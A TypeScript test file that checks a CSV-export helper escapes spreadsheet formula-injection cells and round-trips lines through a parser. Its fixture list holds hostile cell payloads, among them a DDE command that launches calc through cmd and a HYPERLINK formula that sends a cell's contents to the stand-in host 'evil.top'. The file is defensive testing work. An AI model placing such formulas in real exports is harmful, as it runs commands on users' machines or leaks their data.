import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { csvLine, safeCell } from './csv.ts';

const hostile = [
  '=1+1',
  '+919876543210',
  '-2+3',
  '@SUM(A1)',
  '\t=1+1',
  '\r\n=1+1',
  "  =cmd|' /C calc'!A0",
  '＝1+1',
  '＠SUM(1)',
  '=HYPERLINK("http://evil.top?x="&A1,"Bank")',
  '"=1+1',
  'DDE ("cmd";"/C calc";"!A0")A0',
];

describe('a cell', () => {
  test('never begins as a formula does', () => {
    for (const cell of hostile) expect(safeCell(cell), cell).not.toMatch(/^[\s\ufeff]*[=+\-@＝＋－＠]/u);
  });
  test('holds no place where a spreadsheet that parts by semicolons would begin a formula', () => {
    for (const cell of ['x;=1+1', 'x;\t@SUM(1)', 'a\n=1+1', 'a;  -1'])
      expect(safeCell(cell), cell).not.toMatch(/[;\t\n]\s*[=+\-@]/);
  });
  test('keeps all digits of a long number', () => {
    expect(safeCell('50100123456789')).toBe("'50100123456789");
    expect(safeCell('45000.00')).toBe('45000.00');
  });
  test('is otherwise as it was', () => {
    for (const cell of ['', 'बैंक से फोन आया, कहा "KYC"', 'a - b', '24/11/2026'])
      expect(safeCell(cell)).toBe(cell);
  });
});

test('a line read again has the same cells, whatever stands in them', () => {
  fc.assert(
    fc.property(fc.array(fc.string({ unit: 'grapheme' }), { minLength: 1, maxLength: 8 }), (cells) => {
      const line = csvLine(cells);
      expect(line.endsWith('\r\n')).toBe(true);
      const read = parse(line, {
        relax_column_count: true,
        bom: false,
        record_delimiter: '\r\n',
      }) as string[][];
      expect(read).toEqual([cells.map(safeCell)]);
    }),
    { numRuns: 500 },
  );
  expect(csvLine(['a"b', null, 3])).toBe('"a""b","","3"\r\n');
});
